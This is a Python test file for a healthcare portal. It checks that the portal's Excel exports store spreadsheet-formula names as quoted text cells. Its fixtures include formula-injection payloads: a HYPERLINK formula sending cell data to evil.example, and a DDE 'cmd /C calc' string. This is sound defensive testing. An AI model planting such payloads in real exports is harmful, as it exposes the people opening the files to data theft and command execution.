"""Rehabstöd's Excel exports with hostile texts in them (issue 12): a patient and a doctor whose names start
like spreadsheet formulas, on an ongoing case and on a läkarutlåtande of the coordinator's unit. The
workbook, read back with openpyxl, holds them as text cells (never a formula) with the quote prefix."""
from __future__ import annotations

import io
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from conftest import NOW, session_login
from portal import db
from portal.domain import demo as demo_data
from portal.models import Certificate
from portal.repository import intake
from tests.api_support import fk7804_content

VE10, COORDINATOR = demo_data.hsa("VE10"), demo_data.hsa("R001")
PATIENT = demo_data.make_pnr(demo_data.date(1961, 4, 9), 983)
DOCTOR = "TSTNMT2321000156-EVIL"
GIVEN, FAMILY = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+46 70 123"
DOCTOR_GIVEN, DOCTOR_FAMILY = "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"


def _load_hostile_names(app) -> None:
    start = NOW.date() - timedelta(days=5)
    with db.new_session(app) as s:
        statement = s.scalars(select(Certificate).where(Certificate.type_code == "FK7800")).first()
        content, signed = statement.content, statement.signed_at
    doc = {"staff": [{"hsa_id": DOCTOR, "given_name": DOCTOR_GIVEN, "family_name": DOCTOR_FAMILY}],
           "persons": [{"personnummer": PATIENT, "given_name": GIVEN, "family_name": FAMILY}],
           "certificates": [
               {"id": "evil-fk7804", "type": "FK7804", "patient": PATIENT, "staff": DOCTOR, "unit": VE10,
                "signed": f"{start.isoformat()}T09:00:00", "content": fk7804_content(start, 30)},
               {"id": "evil-fk7800", "type": "FK7800", "patient": PATIENT, "staff": DOCTOR, "unit": VE10,
                "signed": signed.isoformat(), "content": content}]}
    with db.new_session(app) as s:
        problems, _ = intake.load(s, doc, app.extensions["certificate_types"])
    assert problems == []


def test_names_that_look_like_formulas_are_text_cells_in_both_excel_exports(demo, client):
    _load_hostile_names(demo)
    session_login(client, demo, "staff", COORDINATOR, unit_id=VE10, role="REHABKOORDINATOR", name="Lena Forsberg")
    for url in ("/rehabstod/sjukfall/export.xlsx", "/rehabstod/lakarutlatanden/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [c for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row
                 if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        hostile = [c for c in cells if isinstance(c.value, str)
                   and any(part in c.value for part in (GIVEN, DOCTOR_GIVEN))]
        assert hostile, url  # the rows are in the file…
        assert all(c.data_type == "s" for c in hostile), url  # …as text
        assert all(c.quotePrefix for c in hostile if c.value.startswith(("=", "+", "-", "@"))), url
